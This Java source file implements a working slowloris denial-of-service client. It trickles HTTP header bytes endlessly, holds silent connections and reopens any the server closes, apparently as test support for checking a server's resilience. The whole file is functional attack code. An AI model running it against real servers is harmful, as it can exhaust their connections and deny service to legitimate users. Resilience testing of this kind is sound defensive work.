package io.marquee.support;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A slowloris attack on an HTTP server: connections that send a request line and then trickle header bytes, one at
 * a time, never ending the head (a connection the server closes is opened again, as the attack does), and silent
 * connections that stop sending (half after the request line, half before anything). One thread does all the I/O.
 */
public final class Slowloris implements AutoCloseable {

    private static final byte[] REQUEST_LINE = "GET /q/health/live HTTP/1.1\r\nHost: slowloris\r\n"
            .getBytes(StandardCharsets.US_ASCII);
    /** Trickled forever: header line after header line, never the empty line that ends the head. */
    private static final byte[] HEADER_LINE = "X-Slowloris: a\r\n".getBytes(StandardCharsets.US_ASCII);

    private final InetSocketAddress server;
    private final List<SocketChannel> trickling;
    private final Set<SocketChannel> firstTricklers;
    private final List<SocketChannel> silent;
    private final AtomicInteger firstTricklersOpen;
    private final AtomicInteger silentOpen;
    private final AtomicInteger reopened = new AtomicInteger();
    private final ScheduledExecutorService ticker = Executors.newSingleThreadScheduledExecutor(runnable -> {
        Thread thread = new Thread(runnable, "slowloris");
        thread.setDaemon(true);
        return thread;
    });
    private long tick;

    private Slowloris(InetSocketAddress server, List<SocketChannel> trickling, List<SocketChannel> silent) {
        this.server = server;
        this.trickling = trickling;
        this.firstTricklers = new HashSet<>(trickling);
        this.silent = silent;
        this.firstTricklersOpen = new AtomicInteger(trickling.size());
        this.silentOpen = new AtomicInteger(silent.size());
    }

    /** Opens the connections and trickles one byte every {@code interval} on each trickling one. */
    public static Slowloris start(URI server, int trickling, int silent, Duration interval) throws IOException {
        InetSocketAddress address = new InetSocketAddress(server.getHost(), server.getPort());
        List<SocketChannel> tricklers = new ArrayList<>();
        List<SocketChannel> quiet = new ArrayList<>();
        for (int i = 0; i < trickling; i++) {
            tricklers.add(connect(address, true));
        }
        for (int i = 0; i < silent; i++) {
            quiet.add(connect(address, i % 2 == 0));
        }
        Slowloris attack = new Slowloris(address, tricklers, quiet);
        attack.ticker.scheduleWithFixedDelay(attack::tick, 0, interval.toMillis(), TimeUnit.MILLISECONDS);
        return attack;
    }

    /** Of the trickling connections opened first, how many the server has not closed. */
    public int firstTricklersOpen() {
        return firstTricklersOpen.get();
    }

    /** Silent connections the server has not closed. */
    public int silentOpen() {
        return silentOpen.get();
    }

    /** Trickling connections opened again after the server closed one. */
    public int reopened() {
        return reopened.get();
    }

    private void tick() {
        byte next = HEADER_LINE[(int) (tick++ % HEADER_LINE.length)];
        for (int i = 0; i < trickling.size(); i++) {
            SocketChannel channel = trickling.get(i);
            if (!closedByServer(channel)) {
                write(channel, next);
                continue;
            }
            if (firstTricklers.remove(channel)) {
                firstTricklersOpen.decrementAndGet();
            }
            try {
                trickling.set(i, connect(server, true));
                reopened.incrementAndGet();
            } catch (IOException refused) {
                // tried again on the next tick
            }
        }
        for (int i = silent.size() - 1; i >= 0; i--) {
            if (closedByServer(silent.get(i))) {
                silent.remove(i);
                silentOpen.decrementAndGet();
            }
        }
    }

    private static SocketChannel connect(InetSocketAddress address, boolean sendRequestLine) throws IOException {
        SocketChannel channel = SocketChannel.open(address);
        if (sendRequestLine) {
            channel.write(ByteBuffer.wrap(REQUEST_LINE));
        }
        channel.configureBlocking(false);
        return channel;
    }

    private static void write(SocketChannel channel, byte next) {
        try {
            channel.write(ByteBuffer.wrap(new byte[] {next}));
        } catch (IOException closedByServer) {
            // seen as closed on the next tick
        }
    }

    /** True when the server ended the connection (end of stream or reset); the channel is then closed here too. */
    private static boolean closedByServer(SocketChannel channel) {
        ByteBuffer sink = ByteBuffer.allocate(4096);
        try {
            int n;
            do {
                n = channel.read(sink.clear());
            } while (n > 0);
            if (n == 0) {
                return false;
            }
        } catch (IOException reset) {
            // closed
        }
        closeQuietly(channel);
        return true;
    }

    private static void closeQuietly(SocketChannel channel) {
        try {
            channel.close();
        } catch (IOException ignored) {
            // closing anyway
        }
    }

    @Override
    public void close() throws InterruptedException {
        ticker.shutdownNow();
        ticker.awaitTermination(5, TimeUnit.SECONDS);
        trickling.forEach(Slowloris::closeQuietly);
        silent.forEach(Slowloris::closeQuietly);
    }
}
